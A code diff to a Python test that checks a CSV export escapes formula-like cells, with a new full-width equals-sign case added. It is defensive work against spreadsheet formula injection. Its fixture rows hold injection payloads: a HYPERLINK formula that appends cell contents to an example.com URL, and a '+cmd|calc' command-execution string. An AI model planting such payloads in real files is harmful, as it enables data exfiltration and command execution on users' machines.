@@ -332,11 +332,14 @@ def test_downloaded_csv_keeps_formula_like_cells_as_text(dataset):
     writer.writerows([["title", "lat", "lon", "notes"],
                       ['=HYPERLINK("http://example.com/?"&A1)', "-4.62", "55.45", "calc"],
                       ["@SUM(A1)", "-20.16", "57.5", "plain"],
-                      ["+cmd|calc", "-18.91", "47.52", "plain"]])
+                      ["+cmd|calc", "-18.91", "47.52", "plain"],
+                      # A full-width equals sign: a spreadsheet runs it as a formula too.
+                      ["＝HYPERLINK(\"http://example.com\")", "-21.1", "55.5", "plain"]])
     records = layer_of(buffer.getvalue().encode(), dataset, "formulas.csv").records
     rows = list(csv_module.DictReader(io.StringIO(to_csv(records))))
     assert rows[0]["name_en"] == "'=HYPERLINK(\"http://example.com/?\"&A1)"
-    assert [row["name_en"] for row in rows[1:]] == ["'@SUM(A1)", "'+cmd|calc"]
+    assert [row["name_en"] for row in rows[1:]] == ["'@SUM(A1)", "'+cmd|calc",
+                                                     "'＝HYPERLINK(\"http://example.com\")"]
     assert rows[0]["lon"] == "55.45" and rows[0]["lat"] == "-4.62"  # numbers stay numbers
     assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
 
